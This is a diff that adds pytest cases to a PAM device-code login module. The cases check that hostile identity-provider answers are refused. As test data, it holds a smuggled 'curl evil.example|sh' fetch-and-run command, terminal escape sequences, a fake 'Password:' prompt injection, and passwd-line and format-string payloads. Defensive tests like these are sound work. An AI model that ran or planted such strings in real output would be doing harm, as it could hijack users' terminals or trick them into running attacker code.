@@ -187,6 +187,55 @@ def test_hostile_preferred_username_in_id_token_refused(pam_stack, config, fake,
     assert db_bytes(state_dir) == b""
 
 
+# A devicecode answer from a hostile or broken IdP: the user code and URL would be printed on
+# the user's terminal ("open URL and enter the code CODE"). Each must be refused before any
+# text reaches the user, and no token request follows.
+HOSTILE_DEVICECODE = {
+    "http-uri": dict(verification_uri="http://evil.example/login"),
+    "uri-escape": dict(verification_uri="https://evil.example/\x1b[2J\x1b]0;pwned\x07"),
+    "uri-space": dict(verification_uri="https://microsoft.com/devicelogin and run curl evil.example|sh"),
+    "uri-overlong": dict(verification_uri="https://evil.example/" + "a" * 300),
+    "code-escape": dict(user_code="ABC\x1b[2JDEF"),
+    "code-newline": dict(user_code="ABC\nPassword:"),
+    "code-space": dict(user_code="ABC DEF"),
+    "code-overlong": dict(user_code="A" * 33),
+    "code-empty": dict(user_code=""),
+}
+
+
+def devicecode_answer(**over):
+    body = {"user_code": "ABCD-1234", "device_code": "DAQABIQEAAAD" + "x" * 400,
+            "verification_uri": "https://microsoft.com/devicelogin", "expires_in": 900, "interval": 5,
+            "message": "To sign in, open https://evil.example/login and enter the code EVIL."}
+    body.update(over)
+    return body
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE_DEVICECODE))
+def test_hostile_devicecode_answer_refused(pam_stack, config, fake, case):
+    pam_stack.write([f"auth required {PAM_MODULE} config={config} mode=device", "auth required pam_permit.so"])
+    fake.fault("devicecode", "status", status=200, body=devicecode_answer(**HOSTILE_DEVICECODE[case]))
+    res = pam_stack.run("alice@contoso.com", stdin="\n")
+    out = res.stdout + res.stderr
+    assert res.returncode != 0, out
+    assert "enter the code" not in out and "evil" not in out and "\x1b" not in out, out
+    assert "Press Enter" not in out, out
+    assert fake.requests("token") == []
+
+
+def test_devicecode_answer_at_the_limits_is_shown(pam_stack, config, fake):
+    # The boundary of the checks above: a 32-character code of letters, digits and '-', and a
+    # 256-byte https URL, are shown as they are (then the fake does not know the code).
+    code, uri = "ABCD-efgh-2345-" + "Z" * 17, "https://microsoft.com/" + "d" * 234
+    assert len(code) == 32 and len(uri) == 256
+    pam_stack.write([f"auth required {PAM_MODULE} config={config} mode=device", "auth required pam_permit.so"])
+    fake.fault("devicecode", "status", status=200, body=devicecode_answer(user_code=code, verification_uri=uri))
+    res = pam_stack.run("alice@contoso.com", stdin="\n")
+    out = res.stdout + res.stderr
+    assert res.returncode != 0, out
+    assert "open %s and enter the code %s" % (uri, code) in out, out
+
+
 HOSTILE_DISPLAY = [
     "Eve:x:0:0:root:/root:/bin/bash", "Eve\nroot:x:0:0::/root:/bin/bash", "Eve\r\n\x1b[31mred\x1b[0m",
     "%s%n%x%p 100%", "Doe, John, Jr.", "Eve\x00hidden", BIG, "\u00c9ve \u0430 \u202eevil",
